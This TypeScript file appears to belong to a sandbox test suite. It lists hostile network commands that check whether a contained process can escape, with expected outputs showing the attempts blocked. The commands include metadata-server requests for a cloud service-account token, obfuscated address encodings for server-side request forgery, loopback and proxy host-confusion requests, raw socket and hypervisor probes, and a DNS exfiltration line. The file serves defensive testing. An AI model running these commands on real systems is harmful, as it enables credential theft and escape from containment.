import { attempts, errors, type HostileCommand } from '../hostile-command.ts';

const { EPERM, EAFNOSUPPORT, EPROTONOSUPPORT } = errors;
const connect = (host: string, port: number | string = 80) => `timeout 2 bash -c ': <> /dev/tcp/${host}/${port}'`;
const ask = (url: string) => `curl -sf -m 10 --noproxy '' '${url}'`;
const sockets = (...rows: readonly (readonly [family: number, type: number, protocol: number])[]) =>
  `perl -e 'for (${rows.map((row) => `[${row.join(', ')}]`).join(', ')}) {
    print socket(my $s, $_->[0], $_->[1], $_->[2]) ? "worked" : $! + 0, "\\n" }'`;

export const networkCommands: readonly HostileCommand[] = [
  {
    subject: 'network',
    tries: 'reaches the metadata server by its address, however it is written',
    command: attempts(
      ...[
        '169.254.169.254',
        '2852039166',
        '0xA9FEA9FE',
        '0251.0376.0251.0376',
        '169.254.43518',
        '[::ffff:169.254.169.254]',
        'fd20:ce::254',
        '::ffff:a9fe:a9fe',
      ].map((host) => connect(host)),
    ),
  },
  {
    subject: 'network',
    tries: 'reaches the metadata server by its name, and by names of others that lead to it',
    command: attempts(
      ...['metadata.google.internal', 'metadata', '169.254.169.254.nip.io', 'instance-data'].map((host) =>
        connect(host),
      ),
      'getent hosts metadata.google.internal',
    ),
  },
  {
    subject: 'network',
    tries: 'asks the metadata server for a token with a client',
    command: attempts(
      'curl -sf -m 2 -H "Metadata-Flavor: Google" http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',
      'curl -sf -m 2 --interface lo -H "Metadata-Flavor: Google" http://metadata.google.internal/',
    ),
    needs: ['curl'],
  },
  {
    subject: 'network',
    tries: 'reaches a server of this machine on loopback and on its other addresses',
    command: attempts(
      ...['127.0.0.1', 'localhost', '0.0.0.0', '127.1', '2130706433', '::1', '::ffff:127.0.0.1', '@ADDRESS@'].map(
        (host) => connect(host, '@PORT@'),
      ),
    ),
  },
  {
    subject: 'network',
    tries: 'connects to an abstract socket of the host',
    command: `${attempts('perl -MSocket -e \'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, pack("S a*", AF_UNIX, "\\0@SOCKET@")) or exit 1\'')}
      grep -c @SOCKET@ /proc/net/unix; true`,
    seen: { stdout: 'closed\n0\n' },
    needs: ['perl'],
  },
  {
    subject: 'network',
    tries: 'looks for interfaces, routes and neighbours',
    command: `ls /proc/net >/dev/null; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; tail -n +2 /proc/net/route; tail -n +2 /proc/net/arp; echo closed`,
    seen: { stdout: 'lo\nclosed\n' },
  },
  {
    subject: 'network',
    tries: 'makes interfaces and routes of its own',
    command: attempts(
      'ip link add d type dummy',
      'ip link add a type veth peer b',
      'ip addr add 10.0.0.1/8 dev lo',
      'ip route add default dev lo',
      'ip link set lo down',
      ': <> /dev/net/tun',
    ),
    needs: ['ip'],
  },
  {
    subject: 'network',
    tries: 'sends what it has read in questions for names',
    command: attempts(
      'echo secret > /dev/udp/8.8.8.8/53',
      'getent hosts secret.example.org',
      'getent ahostsv6 example.org',
      connect('8.8.8.8', 53),
      connect('2001:4860:4860::8888', 53),
    ),
  },
  {
    subject: 'network',
    tries: 'opens sockets that see packets or speak with parts of the kernel',
    command: sockets(
      [17, 3, 0],
      [2, 3, 1],
      [2, 10, 0],
      [38, 5, 0],
      [40, 1, 0],
      [16, 3, 9],
      [16, 3, 12],
      [2, 1, 132],
      [15, 3, 2],
      [31, 3, 1],
      [44, 3, 0],
    ),
    seen: {
      stdout: [
        EAFNOSUPPORT,
        EPERM,
        EPERM,
        EAFNOSUPPORT,
        EAFNOSUPPORT,
        EPROTONOSUPPORT,
        EPROTONOSUPPORT,
        EPROTONOSUPPORT,
        EAFNOSUPPORT,
        EAFNOSUPPORT,
        EAFNOSUPPORT,
      ]
        .map((errno) => `${errno}\n`)
        .join(''),
    },
    needs: ['perl'],
  },
  {
    subject: 'network',
    tries: 'finds a proxy or a name server that nobody gave it',
    command: attempts(
      'env | grep -i proxy',
      'grep -q nameserver /etc/resolv.conf',
      connect('127.0.0.53', 53),
      connect('127.0.0.1', 3128),
    ),
  },
  {
    subject: 'network',
    tries: 'speaks with the hypervisor',
    command: attempts(
      ': <> /dev/vsock',
      ': <> /dev/vhost-vsock',
      ': <> /dev/kvm',
      "perl -e 'socket(S, 40, 1, 0) or exit 1'",
    ),
    needs: ['perl'],
  },
  {
    subject: 'network',
    tries: 'was given the internet and asks the proxy for the metadata server, however it is written',
    network: 'internet',
    command: attempts(
      ...[
        '169.254.169.254',
        '2852039166',
        '0xA9FEA9FE',
        '0251.0376.0251.0376',
        '169.254.43518',
        '[::ffff:169.254.169.254]',
        '[fd20:ce::254]',
        '[64:ff9b::a9fe:a9fe]',
        '[2002:a9fe:a9fe::1]',
        'metadata.google.internal',
        'metadata',
      ].flatMap((host) => [ask(`http://${host}/`), `${ask(`http://${host}/`)} --proxytunnel`]),
    ),
    needs: ['curl'],
    limits: { timeoutMs: 120_000 },
  },
  {
    subject: 'network',
    tries: 'was given the internet and asks the proxy for servers of this machine and of its networks',
    network: 'internet',
    command: attempts(
      ...[
        '127.0.0.1',
        'localhost',
        '0.0.0.0',
        '127.1',
        '2130706433',
        '[::1]',
        '[::ffff:127.0.0.1]',
        '@ADDRESS@',
      ].flatMap((host) => [ask(`http://${host}:@PORT@/`), `${ask(`http://${host}:@PORT@/`)} --proxytunnel`]),
      ...['10.0.0.1', '172.16.0.1', '192.168.0.1', '100.64.0.1', '169.254.1.1', '[fe80::1]', '[fd00::1]'].map((host) =>
        ask(`http://${host}/`),
      ),
    ),
    needs: ['curl'],
    limits: { timeoutMs: 120_000 },
  },
  {
    subject: 'network',
    tries: 'was given the internet and says one server to the proxy and another one to whoever answers',
    network: 'internet',
    command: attempts(
      ...[
        String.raw`GET http://127.0.0.1:@PORT@/ HTTP/1.1\r\nHost: example.com\r\n\r\n`,
        String.raw`GET / HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n\r\n`,
        String.raw`CONNECT 127.0.0.1:@PORT@ HTTP/1.1\r\nHost: example.com:443\r\n\r\n`,
        String.raw`CONNECT example.com@127.0.0.1:@PORT@ HTTP/1.1\r\n\r\n`,
        String.raw`GET http://example.com@127.0.0.1:@PORT@/ HTTP/1.1\r\nHost: x\r\n\r\n`,
        String.raw`GET http://127.0.0.1:@PORT@#@example.com/ HTTP/1.1\r\nHost: x\r\n\r\n`,
      ].map(
        (words) =>
          `proxy=\${http_proxy#http://}; proxy=\${proxy%/}; [[ $proxy ]] || exit 0; exec 3<>/dev/tcp/\${proxy/://} && printf '${words}' >&3 && timeout 5 grep -qE '^HTTP/1.. 200|reached' <&3`,
      ),
    ),
  },
  {
    subject: 'network',
    tries: 'was given the internet and goes past the proxy',
    network: 'internet',
    command: `${attempts(connect('8.8.8.8', 53), connect('@ADDRESS@', '@PORT@'), 'echo x > /dev/udp/8.8.8.8/53', 'getent hosts example.com')}
      tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '`,
    seen: { stdout: 'closed\nlo\n' },
  },
];
